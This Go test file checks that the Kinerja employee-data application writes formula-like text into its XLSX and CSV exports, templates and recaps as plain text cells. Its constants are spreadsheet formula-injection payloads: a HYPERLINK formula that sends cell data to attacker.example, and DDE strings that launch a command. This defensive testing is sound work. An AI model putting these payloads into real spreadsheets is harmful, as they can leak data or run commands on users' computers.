package document_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"kinerja/internal/document"
	"kinerja/internal/kinerja"
)

// Texts that a spreadsheet would take for a formula, as people might type them into Kinerja.
const (
	hyperlink = `=HYPERLINK("https://attacker.example/?d="&A1,"Klik di sini")`
	dde       = `=cmd|' /C calc'!A0`
	phone     = "+62 812-3456-7890"
	minus     = "-2+3"
	at        = "@SUM(1+1)*cmd|' /C calc'!A0"
	tab       = "\t=1+1"
)

// wantText checks that a cell holds text, no formula, formatted as text, so that a spreadsheet
// neither runs it on opening nor once someone edits it.
func wantText(t *testing.T, f *excelize.File, sheet, cell, want string) {
	t.Helper()
	got, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	if err != nil || got != want {
		t.Errorf("%s!%s = %q, %v; want %q", sheet, cell, got, err, want)
	}
	if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
		t.Errorf("%s!%s is the formula %q; want text", sheet, cell, formula)
	}
	if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
		t.Errorf("%s!%s is of type %v; want a string", sheet, cell, typ)
	}
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	if style, err := f.GetStyle(id); err != nil || style.NumFmt != 49 {
		t.Errorf("%s!%s has number format %v, %v; want 49 (text)", sheet, cell, style, err)
	}
}

// TestFormulaInjection writes texts that start like formulas into every spreadsheet Kinerja
// makes: each is a string cell formatted as text, and an export imported again gives the
// texts back as they were.
func TestFormulaInjection(t *testing.T) {
	t.Parallel()
	units := []*kinerja.Unit{{ID: 1, Name: "Kecamatan Asemrowo"}, {ID: 2, Name: dde, Path: dde, Depth: 1, Kind: kinerja.UnitSeksi}}

	t.Run("export", func(t *testing.T) {
		x := document.NewEmployeeExport([]*kinerja.Employee{{ID: 1, NIP: "198005172005031001", Name: hyperlink, Gender: kinerja.GenderMale,
			BirthDate: kinerja.NewDate(1980, 5, 17), Status: kinerja.StatusPNS, Grade: "III/d", Position: minus, PositionKind: kinerja.PositionPengawas,
			UnitID: 2, Active: true, Email: at, Phone: phone}}, units)
		var buf bytes.Buffer
		if err := document.WriteEmployeesXLSX(&buf, x); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		for cell, want := range map[string]string{"B2": hyperlink, "G2": minus, "I2": dde, "K2": at, "L2": phone} {
			wantText(t, f, "Pegawai", cell, want)
		}
		rows, headerErrs, err := document.ReadEmployeeFile(bytes.NewReader(buf.Bytes()), "pegawai.xlsx")
		if err != nil || len(headerErrs) != 0 || len(rows) != 1 {
			t.Fatalf("import of the export = %d rows, %v, %v", len(rows), headerErrs, err)
		}
		for col, want := range map[string]string{"nama": hyperlink, "jabatan": minus, "unit": dde, "email": at, "telepon": phone} {
			if got := rows[0].Values[col]; got != want {
				t.Errorf("imported %s = %q; want %q", col, got, want)
			}
		}
	})

	t.Run("template", func(t *testing.T) {
		var buf bytes.Buffer
		if err := document.WriteEmployeeTemplate(&buf, units); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		wantText(t, f, "Pegawai", "I2", dde) // the example row names a unit of the organisation
		wantText(t, f, "Unit", "A2", dde)
	})

	t.Run("recap", func(t *testing.T) {
		rows := []document.RecapRow{{Employee: kinerja.DirectoryEntry{ID: 1, Name: hyperlink, Position: tab}, NIP: "198005172005031001",
			Assessment: &kinerja.Assessment{Status: kinerja.AssessmentFinal, Justification: at}}}
		var buf bytes.Buffer
		if err := document.WriteRecapXLSX(&buf, dde, "Triwulan I 2026", rows, nil); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		wantText(t, f, "Rekap", "C5", hyperlink)
		wantText(t, f, "Rekap", "D5", tab)
		wantText(t, f, "Rekap", "I5", at)
		if got, _ := f.GetCellValue("Rekap", "A2"); !strings.HasPrefix(got, "Unit kerja: ") {
			t.Errorf("Rekap!A2 = %q; want the unit after its label", got)
		}
	})

	t.Run("csv", func(t *testing.T) {
		// A CSV file has no cell types: the import takes off the apostrophe that makes a
		// spreadsheet read such a text as text.
		csv := strings.Join(kinerja.ImportColumns, ",") + "\n" +
			`198005172005031001,"'` + strings.ReplaceAll(hyperlink, `"`, `""`) + `",L,1980-05-17,pns,III/d,'-2+3,pengawas,Seksi A,,'@x,'+62 812` + "\n"
		rows, _, err := document.ReadEmployeeFile(strings.NewReader(csv), "pegawai.csv")
		if err != nil || len(rows) != 1 {
			t.Fatalf("ReadEmployeeFile = %d rows, %v", len(rows), err)
		}
		for col, want := range map[string]string{"nama": hyperlink, "jabatan": minus, "email": "@x", "telepon": "+62 812"} {
			if got := rows[0].Values[col]; got != want {
				t.Errorf("imported %s = %q; want %q", col, got, want)
			}
		}
		var template bytes.Buffer
		if err := document.WriteEmployeeTemplateCSV(&template); err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(template.String(), "\n") {
			for _, field := range strings.Split(line, ",") {
				if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) {
					t.Errorf("the CSV template has the field %q, which starts like a formula", field)
				}
			}
		}
	})
}
